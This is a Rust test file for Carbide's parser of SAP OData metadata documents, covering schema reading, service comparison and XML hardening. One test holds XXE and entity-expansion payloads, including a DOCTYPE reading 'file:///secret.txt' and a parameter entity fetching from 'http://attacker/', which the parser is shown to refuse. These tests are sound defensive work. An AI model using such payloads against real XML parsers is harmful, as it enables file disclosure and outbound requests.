//! What a service says of itself: read within limits, compared with what Carbide was built for.

use carbide::sandbox;
use carbide::sap::odata::Version;
use carbide::sap::odata::metadata::{Difference, Metadata, OperationKind};
use carbide::source::sap::SERVICES;

const V2: &str = r#"<?xml version="1.0" encoding="utf-8"?>
<edmx:Edmx Version="1.0" xmlns:edmx="e" xmlns:m="m" xmlns:sap="s"><edmx:DataServices>
<Schema Namespace="N" Alias="Self">
 <EntityType Name="OrderType">
  <Key><PropertyRef Name="Order"/></Key>
  <Property Name="Order" Type="Edm.String" Nullable="false" MaxLength="10" sap:updatable="false"/>
  <Property Name="TotalQuantity" Type="Edm.Decimal" Precision="13" Scale="3"/>
  <Property Name="Changed" Type="Edm.DateTimeOffset" ConcurrencyMode="Fixed" sap:filterable="false"/>
  <NavigationProperty Name="to_Item" Relationship="Self.Items" FromRole="One" ToRole="Many"/>
 </EntityType>
 <EntityType Name="ItemType"><Property Name="Item" Type="Edm.String"/></EntityType>
 <ComplexType Name="Address"><Property Name="Street" Type="Edm.String"/></ComplexType>
 <Association Name="Items"><End Role="One" Type="N.OrderType" Multiplicity="1"/>
  <End Role="Many" Type="N.ItemType" Multiplicity="*"/></Association>
 <EntityContainer Name="C">
  <EntitySet Name="A_Order" EntityType="Self.OrderType" sap:deletable="false" sap:requires-filter="true"/>
  <FunctionImport Name="Release" ReturnType="Edm.Boolean" m:HttpMethod="POST">
   <Parameter Name="Order" Type="Edm.String" MaxLength="10"/></FunctionImport>
 </EntityContainer>
</Schema></edmx:DataServices></edmx:Edmx>"#;

fn parsed(document: &str) -> Metadata {
    Metadata::parse(document.as_bytes()).unwrap()
}

fn refusal(document: &str) -> String {
    Metadata::parse(document.as_bytes()).unwrap_err()
}

/// What is said of each difference, and whether each refuses the start.
fn said(live: &str) -> Vec<(String, bool)> {
    let differences = parsed(V2).compare(&parsed(live));
    differences.iter().map(|one| (one.said_of("SVC"), one.refuses_start())).collect()
}

#[test]
fn a_v2_service_says_what_it_offers_and_what_may_be_done() {
    let metadata = parsed(V2);

    assert_eq!(metadata.version, Version::V2);
    let order = &metadata.entity_types["N.OrderType"];
    assert_eq!(order.key, ["Order"]);
    let key = &order.properties["Order"];
    assert_eq!((key.nullable, key.max_length, key.updatable), (false, Some(10), false));
    let quantity = &order.properties["TotalQuantity"];
    assert_eq!((quantity.precision, quantity.scale), (Some(13), Some(3)));
    let changed = &order.properties["Changed"];
    assert!(changed.guards_etag && !changed.filterable);
    let way = &order.navigation["to_Item"];
    assert_eq!((way.target.as_deref(), way.many), (Some("N.ItemType"), true));
    let set = &metadata.entity_sets["A_Order"];
    assert_eq!(set.entity_type, "N.OrderType");
    assert!(set.creatable && !set.deletable && set.requires_filter);
    let release = &metadata.operations[0];
    assert_eq!((release.name.as_str(), release.kind), ("Release", OperationKind::Action));
    assert_eq!(release.returns.as_deref(), Some("Edm.Boolean"));
    assert_eq!(release.parameters["Order"].max_length, Some(10));
}

#[test]
fn a_v4_service_has_base_types_aliases_and_bound_actions() {
    let metadata = parsed(
        r#"<Edmx Version="4.0"><DataServices><Schema Namespace="com.sap.n" Alias="SAP__self">
        <EntityType Name="Base"><Key><PropertyRef Name="Id"/></Key>
         <Property Name="Id" Type="Edm.String"/></EntityType>
        <EntityType Name="Sub" BaseType="SAP__self.Base">
         <Property Name="Amount" Type="Edm.Decimal" Scale="variable"/>
         <NavigationProperty Name="_All" Type="Collection(SAP__self.Base)"/></EntityType>
        <Action Name="Release" IsBound="true"><Parameter Name="_it" Type="SAP__self.Sub"/>
         <ReturnType Type="SAP__self.Sub"/></Action>
        <EntityContainer Name="C"><EntitySet Name="Sub" EntityType="SAP__self.Sub">
         <Annotation Term="Org.OData.Repeatability.V1.Supported"/></EntitySet></EntityContainer>
        </Schema></DataServices></Edmx>"#,
    );

    assert_eq!(metadata.version, Version::V4);
    let names: Vec<&str> = metadata.properties_of("Sub").unwrap().into_keys().collect();
    assert_eq!(names, ["Amount", "Id"]);
    let way = &metadata.entity_types["com.sap.n.Sub"].navigation["_All"];
    assert_eq!((way.target.as_deref(), way.many), (Some("com.sap.n.Base"), true));
    let release = &metadata.operations[0];
    assert!(release.bound && release.kind == OperationKind::Action);
    assert!(metadata.repeatable);
}

#[test]
fn a_type_that_is_its_own_base_has_an_end() {
    let metadata = parsed(
        r#"<Edmx><Schema Namespace="N"><EntityType Name="T" BaseType="N.T">
        <Property Name="P" Type="Edm.String"/></EntityType>
        <EntityContainer><EntitySet Name="S" EntityType="N.T"/></EntityContainer></Schema></Edmx>"#,
    );

    assert_eq!(metadata.property_count(), 1);
}

#[test]
fn every_service_that_is_shipped_reads_and_equals_itself() {
    for service in SERVICES {
        let metadata = parsed(sandbox::edmx(service.path).unwrap());

        assert_eq!(metadata.version, service.version, "{}", service.name);
        assert!(metadata.property_count() > 0, "{}", service.name);
        assert_eq!(metadata.compare(&metadata), [], "{}", service.name);
    }
}

#[test]
fn xml_01_to_03_document_types_are_refused_with_their_line() {
    for declaration in [
        "<!DOCTYPE x [<!ENTITY a \"b\"><!ENTITY c \"&a;&a;\">]>",
        "<!DOCTYPE x SYSTEM \"file:///secret.txt\">",
        "<!DOCTYPE x [<!ENTITY % p SYSTEM \"http://attacker/\">%p;]>",
    ] {
        let text = refusal(&format!("<?xml version=\"1.0\"?>\n{declaration}<Edmx/>"));
        let wanted = "XML-DOCTYPE: document type declarations are not allowed (line 2)";
        assert_eq!(text, wanted);
    }
}

#[test]
fn xml_04_to_09_what_is_no_clean_xml_is_refused() {
    let many: String = (0..100_000).map(|n| format!(" a{n}=\"1\"")).collect();
    let deep = format!("<Edmx>{}", "<a>".repeat(100_000));
    let cases = [
        ("<Edmx>\n&foo;</Edmx>", "XML-ENTITY: entity foo is not defined (line 2)"),
        ("<Edmx a='&foo;'/>", "XML-ENTITY"),
        ("<Edmx>&#xFFFE;</Edmx>", "XML-CHAR"),
        ("<Edmx a='&#xFFFE;'/>", "XML-CHAR"),
        ("<Edmx><Schema>", "XML-TRUNC: document ends inside <Schema>"),
        ("", "XML-TRUNC"),
        (&format!("<Edmx{many}/>"), "XML-LIMIT: more than 256 attributes (line 1)"),
        (&deep, "XML-LIMIT: nesting deeper than 64 (line 1)"),
        ("<?xml version='1.0' encoding='UTF-16'?><Edmx/>", "XML-ENCODING"),
        ("<html><body>Logon</body></html>", "EDMX-ROOT: <html> is no metadata (line 1)"),
    ];
    for (document, code) in cases {
        let text = refusal(document);
        assert!(text.starts_with(code), "{text} should start with {code}");
    }
}

#[test]
fn a_declaration_without_quotes_does_not_end_the_program() {
    let broken = "<?xml version='1.0' encoding=\u{fc}utf-8\u{fc}?><Edmx/>";

    assert!(Metadata::parse(broken.as_bytes()).is_ok());
}

#[test]
fn a_document_that_is_too_long_is_not_read() {
    let wide = format!("<Edmx>{}</Edmx>", "<a/>".repeat(500_001));
    let long = format!("<Edmx><!--{}--></Edmx>", " ".repeat(16 << 20));

    assert!(refusal(&wide).starts_with("XML-LIMIT: more than 500000 elements"));
    assert_eq!(refusal(&long), "XML-LIMIT: longer than 16 MiB");
}

#[test]
fn xml_17_a_type_that_is_not_read_is_skipped_and_refused_if_it_is_needed() {
    let extra = r#"<Property Name="Place" Type="Edm.GeographyPoint"/></EntityType>"#;
    let more = V2.replacen("</EntityType>", extra, 1);
    let skipped =
        "META-TYPE: A_Order.Place: type Edm.GeographyPoint not supported; property skipped";
    assert_eq!(said(&more), [(skipped.to_owned(), false)]);

    let needed = V2.replace(r#"Type="Edm.Decimal" Precision"#, r#"Type="Edm.Geometry" Precision"#);
    let differences = said(&needed);
    assert_eq!(differences.len(), 1, "{differences:?}");
    assert!(differences[0].0.starts_with("META-TYPE: A_Order.TotalQuantity: type Edm.Geometry"));
    assert!(differences[0].1);
}

#[test]
fn a_complex_type_of_the_service_is_no_unknown_type() {
    let extra = r#"<Property Name="Home" Type="Self.Address"/></EntityType>"#;

    assert!(said(&V2.replacen("</EntityType>", extra, 1)).is_empty());
}

#[test]
fn xml_18_a_mapped_property_that_is_missing_is_named_with_the_nearest() {
    let text = "META-MISSING: mapping needs A_Order.TotalQuantity; service SVC does not offer it";
    let renamed = V2.replace("\"TotalQuantity\"", "\"TotalQty\"");
    let similar = V2.replace("\"TotalQuantity\"", "\"TotlQuantity\"");
    let no_set = V2.replace("\"A_Order\"", "\"A_Orders\"");

    assert_eq!(said(&renamed), [(format!("{text} (similar: none)"), true)]);
    assert_eq!(said(&similar), [(format!("{text} (similar: TotlQuantity)"), true)]);
    let set =
        "META-MISSING: mapping needs A_Order; service SVC does not offer it (similar: A_Orders)";
    assert_eq!(said(&no_set), [(set.to_owned(), true)]);
}

#[test]
fn another_type_or_length_is_said_and_does_not_stop_the_start() {
    let longer = V2.replacen("MaxLength=\"10\"", "MaxLength=\"12\"", 1);
    let open = V2.replacen(" MaxLength=\"10\"", "", 1);
    let other = V2.replace("Scale=\"3\"", "Scale=\"5\"");

    let text = "META-CHANGED: A_Order.Order is Edm.String(12) in SVC; Carbide was built for \
                Edm.String(10)";
    assert_eq!(said(&longer), [(text.to_owned(), false)]);
    assert!(said(&open).is_empty());
    let differences = parsed(V2).compare(&parsed(&other));
    assert!(
        matches!(&differences[..], [Difference::Changed { ours, live, .. }]
            if ours == "Edm.Decimal(13,3)" && live == "Edm.Decimal(13,5)"),
        "{differences:?}"
    );
}

#[test]
fn carbon_fields_that_were_added_are_seen() {
    let added = V2.replace("\"TotalQuantity\"", "\"YY1_CO2_PLA\"");

    assert_eq!(parsed(&added).carbon_fields().into_iter().collect::<Vec<_>>(), ["YY1_CO2_PLA"]);
    assert!(parsed(V2).carbon_fields().is_empty());
}
